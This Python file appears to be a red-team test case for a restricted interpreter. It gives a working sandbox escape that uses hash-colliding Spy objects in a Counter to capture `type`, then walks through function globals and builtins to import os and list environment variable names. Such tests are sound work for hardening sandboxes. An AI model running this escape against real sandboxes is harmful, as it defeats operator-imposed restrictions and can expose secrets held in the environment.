# family: class machinery (red-team round 14: type(x) reaching the tool's code)
# Chain: peers._lookup_peer accepts a name made by collections.Counter(...) as a "plain dict" for
# `counts[type(c)]`, whatever keys the tool put in it.  Counter(spies) stores the tool's Spy objects as
# keys; the lookup of type(c) calls Spy.__eq__(type(c)) on the hash match (Spy hashes cover hash(type)),
# so Spy receives the metaclass `type`.  type(attrgetter) -> run-time getters -> run.__globals__ ->
# builtins -> __import__("os").environ.
import operator
from collections import Counter


class Spy:
    def __init__(self, h, box):
        self.h = h
        self.box = box

    def __hash__(self):
        return self.h

    def __eq__(self, other):
        self.box.append(other)
        return False


def class_of(c):
    box = []
    base = hash(int)
    counts = Counter([Spy(base + k, box) for k in range(-70000, 70000)])
    print("count:", counts[type(c)])
    return box[0]


def run():
    meta = class_of(float)
    make = meta(operator.attrgetter("real"))
    u = "_"
    g = make(u + u + "globals" + u + u)(run)
    b = g[u + u + "builtins" + u + u]
    imp = b[u + u + "import" + u + u] if type(b) is dict else make(u + u + "import" + u + u)(b)
    osmod = imp("os")
    print("meta:", meta, osmod)
    print("env:", sorted(osmod.environ)[:5])


run()
